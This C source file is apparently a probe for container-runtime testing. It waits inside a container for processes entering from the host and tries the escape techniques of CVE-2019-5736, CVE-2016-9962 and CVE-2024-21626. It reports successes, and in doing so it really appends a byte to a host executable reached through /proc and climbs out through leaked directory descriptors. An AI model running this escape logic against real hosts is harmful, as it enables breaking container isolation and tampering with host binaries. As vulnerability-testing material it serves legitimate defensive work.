/*
 * Lies in wait inside a container for processes that come from outside (an exec, a launch) and uses
 * whatever they bring along: their binary (CVE-2019-5736), their descriptors and directories
 * (CVE-2016-9962, CVE-2024-21626). Prints a line for each thing it got hold of:
 *
 *   written NAME      the file behind NAME was opened for writing
 *   outside NAME      from the directory behind NAME the host's file MARKER can be reached
 *
 * Usage: spy MARKER. MARKER is an absolute path of the host. SIGTERM ends it, in its own time.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *marker;
static int kept[64], kept_count;
static volatile sig_atomic_t told_to_end;

static void end(int signal) {
    (void)signal;
    told_to_end = 1;
}

/* Climbs out of the directory behind a descriptor: "../../.." leads to its file system's root. */
static void try_directory(int fd, const char *name) {
    char path[4096] = "";
    for (int up = 0; up < 24; up++) {
        char full[8192];
        snprintf(full, sizeof full, "%s.%s", path, marker);
        if (faccessat(fd, full, F_OK, 0) == 0) {
            printf("outside %s\n", name);
            return;
        }
        strcat(path, "../");
    }
}

/* A program of the image is reached by its own path: writing it is no news. */
static int is_of_the_image(int fd, const struct stat *meta) {
    char name[64], target[4096];
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(name, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    struct stat path;
    return stat(target, &path) == 0 && path.st_dev == meta->st_dev && path.st_ino == meta->st_ino;
}

static void try_link(const char *name) {
    int fd = open(name, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    struct stat meta;
    if (fstat(fd, &meta) == 0) {
        if (S_ISDIR(meta.st_mode))
            try_directory(fd, name);
        if (S_ISREG(meta.st_mode) && strstr(name, "/exe") && !is_of_the_image(fd, &meta) && kept_count < 64) {
            /* Busy as long as it runs: it is tried again until then. */
            kept[kept_count++] = fd;
            return;
        }
    }
    close(fd);
}

static void try_kept(void) {
    for (int i = 0; i < kept_count; i++) {
        char name[64];
        snprintf(name, sizeof name, "/proc/self/fd/%d", kept[i]);
        int fd = open(name, O_WRONLY | O_APPEND);
        if (fd < 0 && errno == ETXTBSY)
            continue;
        if (fd >= 0) {
            char target[4096];
            ssize_t length = readlink(name, target, sizeof target - 1);
            printf("written %.*s\n", (int)(length < 0 ? 0 : length), target);
            if (write(fd, "#", 1) != 1)
                printf("but not really: %s\n", strerror(errno));
        }
        if (fd >= 0)
            close(fd);
        close(kept[i]);
        kept[i--] = kept[--kept_count];
    }
}

int main(int argc, char **argv) {
    if (argc != 2)
        return 2;
    signal(SIGTERM, end);
    marker = argv[1];
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("watching\n");
    while (!told_to_end) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            char name[300];
            if (pid == 0 || pid == getpid())
                continue;
            for (int i = 0; i < 3; i++) {
                snprintf(name, sizeof name, "/proc/%d/%s", pid, (const char *[]){"exe", "cwd", "root"}[i]);
                try_link(name);
            }
            for (int fd = 0; fd < 32; fd++) {
                snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, fd);
                try_link(name);
            }
        }
        if (proc)
            closedir(proc);
        try_kept();
    }
    printf("done\n");
    return 0;
}
